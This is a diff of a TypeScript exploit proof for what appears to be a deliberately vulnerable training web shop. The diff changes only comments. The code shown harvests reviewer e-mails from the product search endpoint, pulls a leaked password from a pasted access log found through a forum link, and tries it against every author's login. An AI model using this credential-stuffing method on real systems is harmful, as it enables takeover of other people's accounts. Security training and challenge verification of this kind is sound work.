@@ -7,7 +7,7 @@ const signIn = (attacker: Attacker, email: string, password: string) =>
 
 const ownerOf = ({ domain }: Attacker) => `J12934@${domain}`
 
-/** The e-mail of everybody who wrote a review: under each of them it stands. */
+/** Returns the e-mail of every author of a review, as shown on the product pages. */
 async function authors(attacker: Attacker): Promise<Set<string>> {
   const found = new Set<string>()
   const products: readonly { id: number }[] = (await attacker.get('/rest/products/search?q=')).json().data
@@ -18,7 +18,7 @@ async function authors(attacker: Attacker): Promise<Set<string>> {
   return found
 }
 
-/** The password in the log that was pasted. A question of somebody who did not know better leads to it. */
+/** Returns the password in the pasted log. A question in a forum links to it. */
 async function passwordInLog(attacker: Attacker): Promise<string> {
   const hits = await attacker.get('/internet?q=access%20log%20password')
   const page = /href="(\/internet\/askhedge\.example\/[^"]+)"/.exec(hits.text)?.[1] ?? ''
@@ -31,7 +31,7 @@ async function passwordInLog(attacker: Attacker): Promise<string> {
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     const password = await passwordInLog(attacker)
-    // The log says nothing of whose it is, so one password is tried on everybody.
+    // The log does not name the account, so the password is tried with each author.
     for (const email of await authors(attacker)) if ((await signIn(attacker, email, password)).status === 200) return
   },
   spellings: {
